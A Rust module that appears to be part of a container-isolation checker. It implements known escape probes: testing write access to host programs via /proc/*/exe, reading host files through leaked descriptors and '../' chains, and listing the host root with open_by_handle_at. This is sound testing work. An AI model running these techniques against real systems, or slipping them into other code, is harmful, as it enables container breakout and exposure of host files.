//! Known ways out of containers.

use std::collections::BTreeMap;
use std::fs::{self, File, OpenOptions};
use std::io;
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::path::Path;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use super::{Outcome, check, name_of};

/// How long it looks for programs of others.
const SPAN: Duration = Duration::from_secs(4);
/// Descriptors that a runtime might have left, and how deep in the host's tree they could be.
const MAX_DESCRIPTOR: u32 = 64;
const MAX_DEPTH: usize = 12;

/// Looks for processes whose program is not of this container, and tries to write over that program.
///
/// Returns how each program could be opened for writing, and how often a process was seen at all.
pub fn overwrite_programs(_arguments: &[String]) -> Outcome {
    let own = fs::metadata("/proc/self/exe")?;
    let mut found: BTreeMap<String, String> = BTreeMap::new();
    let (mut seen, mut hidden) = (0u64, 0u64);
    let until = Instant::now() + SPAN;
    while Instant::now() < until {
        for entry in fs::read_dir("/proc")?.flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            if !name.bytes().all(|byte| byte.is_ascii_digit()) || name == std::process::id().to_string() {
                continue;
            }
            seen += 1;
            match File::open(format!("/proc/{name}/exe")) {
                Ok(program) if is_other(&program, &own) => {
                    let key = fs::read_link(format!("/proc/{name}/exe")).unwrap_or_default();
                    found.insert(key.to_string_lossy().into_owned(), write_through(&program));
                }
                Ok(_) => {}
                Err(_) => hidden += 1,
            }
        }
    }
    Ok(json!({"programs": found, "seen": seen, "hidden": hidden}))
}

fn is_other(program: &File, own: &fs::Metadata) -> bool {
    program
        .metadata()
        .is_ok_and(|found| (found.dev(), found.ino()) != (own.dev(), own.ino()))
}

/// Whether a program that is open for reading can be opened for writing; nothing is written.
fn write_through(program: &File) -> String {
    match OpenOptions::new()
        .write(true)
        .open(format!("/proc/self/fd/{}", program.as_raw_fd()))
    {
        Ok(_) => "opened".to_owned(),
        Err(error) => name_of(&error),
    }
}

/// Looks for a file of the host above the working directory and above everything that is open.
pub fn find_above(arguments: &[String]) -> Outcome {
    let name = arguments[0].trim_start_matches('/');
    let starts = (0..MAX_DESCRIPTOR)
        .map(|number| format!("/proc/self/fd/{number}"))
        .chain([".".to_owned(), "/proc/self/cwd".to_owned()]);
    let mut found = Vec::new();
    for start in starts {
        for depth in 0..MAX_DEPTH {
            let path = format!("{start}/{}{name}", "../".repeat(depth));
            if let Ok(text) = fs::read_to_string(Path::new(&path)) {
                found.push(json!([path, text]));
                break;
            }
        }
    }
    Ok(Value::Array(found))
}

/// Opens a file by its handle, which looks up no path and so minds no root.
pub fn open_by_handle(arguments: &[String]) -> Outcome {
    let root = File::open(&arguments[0])?;
    // A handle of the root directory of most file systems: inode 2, any generation.
    #[repr(C)]
    struct Handle {
        bytes: u32,
        kind: i32,
        inode: [u32; 2],
    }
    let handle = Handle {
        bytes: 8,
        kind: 1,
        inode: [2, 0],
    };
    // SAFETY: the handle lives until the call returns.
    let opened = unsafe {
        libc::syscall(
            libc::SYS_open_by_handle_at,
            root.as_raw_fd(),
            &raw const handle,
            libc::O_RDONLY,
        )
    };
    let descriptor = check(opened)?;
    let names = fs::read_dir(format!("/proc/self/fd/{descriptor}"))?;
    let names: io::Result<Vec<String>> = names
        .map(|entry| Ok(entry?.file_name().to_string_lossy().into_owned()))
        .collect();
    Ok(json!(names?))
}
